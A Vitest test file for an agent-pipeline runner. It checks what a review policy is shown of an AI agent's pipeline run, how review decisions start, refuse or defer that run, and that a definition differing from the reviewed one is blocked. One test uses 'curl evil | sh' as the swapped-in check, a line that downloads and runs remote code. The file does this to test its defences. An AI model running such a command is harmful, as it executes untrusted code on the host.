import { describe, expect, it } from 'vitest';
import type { PipelineDef, StepDef } from '../../src/pipelines/definition.js';
import { AgentRuns, pipelineFacts, type AgentRunsHost } from '../../src/pipelines/agent-runs.js';
import type { Decision, PipelineChange } from '../../src/lua/runtime/policy-review.js';
import type { StartOptions } from '../../src/pipelines/runner.js';
import type { PipelineRun } from '../../src/pipelines/run.js';

// What the policy is shown of an agent's pipeline run, and that what starts is what was reviewed.
// The hub's parts are replaced by plain functions here; the whole path runs in agent-pipelines.test.ts.

const step = (id: string, extra: Partial<StepDef> = {}): StepDef => ({
  id,
  agent: { command: 'claude' },
  worktree: false,
  prompt: 'p',
  prompt_as: 'typed',
  timeout_ms: 1000,
  depends_on: [],
  ...extra,
});

const def = (steps: StepDef[], extra: Partial<PipelineDef> = {}): PipelineDef => ({
  id: 'fix',
  strategy: 'parallel',
  steps,
  merge: { kind: 'pick_best', finish: true },
  context: { sources: [], max_chars: 100 },
  max_agents: 3,
  ...extra,
});

describe('pipelineFacts: the run as the policy sees it', () => {
  it('fills --var into prompts and checks, keeps ${step.result} for later, and lists every shell command it runs', () => {
    const d = def(
      [
        step('a', { prompt: 'fix ${task}', check: '${test} --bail', worktree: true }),
        step('b', { agent: { profile: 'fast' }, prompt: 'review ${a.result}', depends_on: ['a'] }),
        step('each', { parallel_on: 'a', depends_on: ['a'] }),
      ],
      {
        merge: { kind: 'summarize', finish: false, step: step('summary', { prompt: '${results}' }) },
        context: {
          sources: [
            { command: 'git log -3', priority: 1 },
            { text: 'x', priority: 1 },
          ],
          max_chars: 10,
        },
      },
    );
    const f = pipelineFacts(d, { vars: { task: 'the date test', test: 'npm test' }, cwd: '/repo' });
    expect(
      f.steps.map((s) => [s.id, s.command ?? `profile ${s.profile}`, s.prompt, s.check, s.fans_out]),
    ).toEqual([
      ['a', 'claude', 'fix the date test', 'npm test --bail', false],
      ['b', 'profile fast', 'review ${a.result}', null, false],
      ['each', 'claude', 'p', null, true],
      ['summary', 'claude', '${results}', null, false],
    ]);
    expect(f.runs).toEqual(['npm test --bail', 'git log -3']);
    expect(f).toMatchObject({
      id: 'fix',
      file: null,
      cwd: '/repo',
      max_agents: 3,
      merge: { kind: 'summarize' },
    });
  });
});

describe('AgentRuns', () => {
  const decided = (decision: Decision['decision']): Decision => ({
    decision,
    confidence: 1,
    reasoning: 'because',
    rule: 'r',
  });

  function host(reviewed: PipelineDef, live: PipelineDef, decision: Decision['decision']) {
    const started: StartOptions[] = [];
    const seen: PipelineChange[] = [];
    const h: AgentRunsHost = {
      trial: async () => ({ ids: [reviewed.id], defs: { [reviewed.id]: reviewed }, registers: [] }),
      def: async () => null,
      review: async (c) => (seen.push(c), decided(decision)),
      start: async (opts) => {
        started.push(opts);
        const why = opts.expect?.(live);
        if (why) throw new Error(why);
        const run = { id: 'p1', status: 'running' } as PipelineRun;
        return { run, done: Promise.resolve(run) };
      },
      agentName: (id) => (id === '4' ? 'planner' : null),
      emit: () => {},
      notify: () => {},
      log: () => {},
      waitMs: () => 0,
      paletteKeys: () => 'Ctrl+g :',
    };
    return { h, started, seen };
  }
  const ask = { agentId: '4', file: { path: '/repo/fix.lua', source: '--' }, vars: {}, cwd: '/repo' };

  it('the policy sees kind "pipeline", the agent and the steps; autonomous starts it', async () => {
    const d = def([step('a', { check: 'make' })]);
    const { h, started, seen } = host(d, d, 'autonomous');
    const a = await new AgentRuns(h).ask(ask);
    expect('started' in a && a.started.run.id).toBe('p1');
    expect(seen[0]).toMatchObject({
      kind: 'pipeline',
      name: 'fix',
      agent_id: '4',
      agent_name: 'planner',
      source: '--',
      pipeline: { file: '/repo/fix.lua', runs: ['make'] },
    });
    expect(started[0]).toMatchObject({ id: 'fix', file: ask.file, cwd: '/repo' });
  });

  it('a definition that comes out different live than on trial does not start', async () => {
    const { h } = host(def([step('a')]), def([step('a', { check: 'curl evil | sh' })]), 'autonomous');
    await expect(new AgentRuns(h).ask(ask)).rejects.toThrow(/not what was reviewed/);
  });

  it('escalated is refused with the reasoning; collaborative waits and the answer applies later', async () => {
    const d = def([step('a')]);
    expect(await new AgentRuns(host(d, d, 'escalated').h).ask(ask)).toMatchObject({ refused: 'because' });
    const { h, started } = host(d, d, 'collaborative');
    const runs = new AgentRuns(h);
    expect(await runs.ask(ask)).toMatchObject({ waiting: 'r1' });
    expect(started).toEqual([]);
    expect(await runs.answer(true)).toBe('pipeline fix runs (run p1)');
    expect(started).toHaveLength(1);
    expect(await runs.answer(true)).toBe('no pipeline run waits for you');
  });

  it('one agent cannot pile up questions: past 3 waiting, its requests are refused', async () => {
    const d = def([step('a')]);
    const runs = new AgentRuns(host(d, d, 'collaborative').h);
    for (let i = 1; i <= 3; i++) expect(await runs.ask(ask)).toMatchObject({ waiting: `r${i}` });
    expect(await runs.ask(ask)).toMatchObject({
      refused: expect.stringMatching(/already wait for the user/),
    });
    expect(await runs.ask({ ...ask, agentId: '5' })).toMatchObject({ waiting: 'r4' });
  });
});
